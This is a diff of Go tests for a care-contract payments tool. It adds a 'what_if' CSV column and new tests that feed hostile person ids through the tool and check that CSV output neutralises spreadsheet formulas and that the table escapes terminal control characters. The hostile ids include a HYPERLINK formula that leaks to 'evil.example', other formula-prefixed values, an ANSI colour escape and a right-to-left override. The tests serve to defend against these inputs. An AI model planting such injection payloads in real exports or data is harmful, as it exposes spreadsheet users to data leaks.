@@ -8,6 +8,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"maps"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -376,22 +377,22 @@ func TestEvalCSV(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	header := []string{"period", "rule", "kind", "key", "amount", "currency", "title", "source"}
+	header := []string{"period", "rule", "kind", "key", "amount", "currency", "title", "source", "what_if"}
 	if len(rows) == 0 || !slices.Equal(rows[0], header) {
 		t.Fatalf("header %v, want %v", rows[0], header)
 	}
 	want := [][]string{
-		{"2026-05", "hours", "payment", "P1", "784.00", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:2"},
-		{"2026-05", "hours", "payment", "P2", "940.80", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:3"},
-		{"2026-05", "hours", "payment", "P3", "666.40", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:4"},
-		{"2026-05", "hours", "payment", "P4", "392.00", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:5"},
-		{"2026-05", "goal_fee", "incentive", "P1/G1", "300.00", "GBP", "Goal achieved", evalSpecDir + "/goals.csv:2"},
-		{"2026-05", "goal_fee", "incentive", "P2/G1", "240.00", "GBP", "Goal achieved", evalSpecDir + "/goals.csv:4"},
-		{"2026-05", "satisfied", "incentive", "P1", "30.00", "GBP", "Person satisfied with their care", evalSpecDir + "/reviews.csv:2"},
-		{"2026-05", "satisfied", "incentive", "P3", "30.00", "GBP", "Person satisfied with their care", evalSpecDir + "/reviews.csv:4"},
-		{"2026-05", "missed", "sanction", "P2", "-47.04", "GBP", "Missed visits", evalSpecDir + "/reviews.csv:3"},
-		{"2026-05", "reduced_package", "share", "P2", "78.40", "GBP", "Saving on a reduced package, shared", evalSpecDir + "/reviews.csv:3"},
-		{"2026-05", "outcome_cap", "adjustment", "2026-05", "-260.92", "GBP", "Outcome-linked payments at most 15% of hours paid", ""},
+		{"2026-05", "hours", "payment", "P1", "784.00", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:2", ""},
+		{"2026-05", "hours", "payment", "P2", "940.80", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:3", ""},
+		{"2026-05", "hours", "payment", "P3", "666.40", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:4", ""},
+		{"2026-05", "hours", "payment", "P4", "392.00", "GBP", "Hours delivered", evalSpecDir + "/reviews.csv:5", ""},
+		{"2026-05", "goal_fee", "incentive", "P1/G1", "300.00", "GBP", "Goal achieved", evalSpecDir + "/goals.csv:2", ""},
+		{"2026-05", "goal_fee", "incentive", "P2/G1", "240.00", "GBP", "Goal achieved", evalSpecDir + "/goals.csv:4", ""},
+		{"2026-05", "satisfied", "incentive", "P1", "30.00", "GBP", "Person satisfied with their care", evalSpecDir + "/reviews.csv:2", ""},
+		{"2026-05", "satisfied", "incentive", "P3", "30.00", "GBP", "Person satisfied with their care", evalSpecDir + "/reviews.csv:4", ""},
+		{"2026-05", "missed", "sanction", "P2", "-47.04", "GBP", "Missed visits", evalSpecDir + "/reviews.csv:3", ""},
+		{"2026-05", "reduced_package", "share", "P2", "78.40", "GBP", "Saving on a reduced package, shared", evalSpecDir + "/reviews.csv:3", ""},
+		{"2026-05", "outcome_cap", "adjustment", "2026-05", "-260.92", "GBP", "Outcome-linked payments at most 15% of hours paid", "", ""},
 	}
 	if len(rows)-1 != len(want) {
 		t.Fatalf("%d rows, want one per line (%d):\n%s", len(rows)-1, len(want), stdout)
@@ -591,5 +592,122 @@ payment visits "Visits delivered" {
 		if k := utf8.RuneCountInString(r[:strings.Index(r, " V")+1]); k != keyCol {
 			t.Errorf("row %q: key at column %d, header's KEY at %d", r, k, keyCol)
 		}
+	}
+}
+
+// hostileKeys are person ids a data file might hold that a spreadsheet
+// would run as formulas, or that would move a terminal's cursor or
+// colour.
+var hostileKeys = []string{`=HYPERLINK("http://evil.example/?leak","click")`, "@SUM(1)", "-2+3", "\x1b[31mred", "two\nlines\u202e"}
+
+// writeHostileData writes reviews and goals of the individual-outcomes
+// contract for May 2026 whose people are hostileKeys, into dir; the
+// person -2+3 misses visits, so has a sanction, a negative line.
+func writeHostileData(t *testing.T, dir string) (reviews, goals string) {
+	t.Helper()
+	var r, g bytes.Buffer
+	rw, gw := csv.NewWriter(&r), csv.NewWriter(&g)
+	rw.Write([]string{"person", "month", "planned_hours", "actual_hours", "missed_visits", "satisfaction"})
+	gw.Write([]string{"person", "month", "goal", "status", "agreed_on", "met_on"})
+	for _, k := range hostileKeys {
+		missed := "0"
+		if k == "-2+3" {
+			missed = "3"
+		}
+		rw.Write([]string{k, "2026-05-01", "40", "40", missed, "5"})
+		gw.Write([]string{k, "2026-05-01", "=1+1", "achieved", "2026-04-01", "2026-05-06"})
+	}
+	rw.Flush()
+	gw.Flush()
+	reviews, goals = filepath.Join(dir, "reviews.csv"), filepath.Join(dir, "goals.csv")
+	if err := os.WriteFile(reviews, r.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(goals, g.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return reviews, goals
+}
+
+// TestEvalCSVNeutralisesFormulas: a text cell of the CSV statement that a
+// spreadsheet would run as a formula (starting with =, +, -, @, tab or
+// carriage return) gets a single quote in front; amounts, negative ones
+// too, stay plain numbers.
+func TestEvalCSVNeutralisesFormulas(t *testing.T) {
+	reviews, goals := writeHostileData(t, t.TempDir())
+	code, stdout, stderr := evalRun(t, "eval", evalSpecDir, "--data", reviews, "--data", goals, "--period", "2026-05", "--format", "csv")
+	if code != 0 {
+		t.Fatalf("exit %d:\n%s", code, stderr)
+	}
+	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys := map[string]bool{}
+	negative := false
+	for _, r := range rows[1:] {
+		keys[r[3]] = true
+		for i, cell := range r {
+			if i == 4 {
+				if !regexp.MustCompile(`^-?[0-9]+\.[0-9]{2}$`).MatchString(cell) {
+					t.Errorf("amount %q is not a plain number", cell)
+				}
+				negative = negative || strings.HasPrefix(cell, "-")
+				continue
+			}
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %q: cell %d %q would run as a formula", r, i, cell)
+			}
+		}
+	}
+	if !negative {
+		t.Error("no negative amount: the sanction of -2+3 is missing")
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?leak","click")`, "'@SUM(1)", "'-2+3", "\x1b[31mred", `'=HYPERLINK("http://evil.example/?leak","click")/=1+1`, "'-2+3/=1+1", "\x1b[31mred/=1+1"} {
+		if !keys[want] {
+			t.Errorf("no line with key %q; keys %q", want, slices.Sorted(maps.Keys(keys)))
+		}
+	}
+}
+
+// TestEvalTableEscapesControls: the table and occ explain show control
+// characters from the data (an ANSI colour, a newline, a right-to-left
+// override) as visible escapes; nothing from the data reaches the
+// terminal as a control character.
+func TestEvalTableEscapesControls(t *testing.T) {
+	reviews, goals := writeHostileData(t, t.TempDir())
+	code, stdout, stderr := evalRun(t, "eval", evalSpecDir, "--data", reviews, "--data", goals, "--period", "2026-05")
+	if code != 0 {
+		t.Fatalf("exit %d:\n%s", code, stderr)
+	}
+	checkNoControls := func(what, out string) {
+		t.Helper()
+		for i, line := range strings.Split(out, "\n") {
+			for _, r := range line {
+				if unsafeRune(r) {
+					t.Errorf("%s line %d %q holds control character %U", what, i+1, line, r)
+				}
+			}
+		}
+	}
+	checkNoControls("table", stdout)
+	for _, want := range []string{`\u001b[31mred`, `two\u000alines\u202e`, "-2+3", `=HYPERLINK("http://evil.example/?leak","click")`} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("the table does not show %q:\n%s", want, stdout)
+		}
+	}
+	// Every line of the lines table still has its five columns.
+	for _, line := range strings.Split(stdout, "\n") {
+		if strings.HasPrefix(line, "hours ") && len(strings.Fields(line)) != 5 {
+			t.Errorf("line %q does not have five columns", line)
+		}
+	}
+	code, stdout, stderr = evalRun(t, "explain", evalSpecDir, "\x1b[31mred", "--data", reviews, "--data", goals, "--period", "2026-05")
+	if code != 0 {
+		t.Fatalf("explain: exit %d:\n%s", code, stderr)
+	}
+	checkNoControls("explain", stdout)
+	if !strings.Contains(stdout, `2026-05 hours payment \u001b[31mred = 784.00`) {
+		t.Errorf("explain does not show the key escaped:\n%s", stdout)
 	}
 }
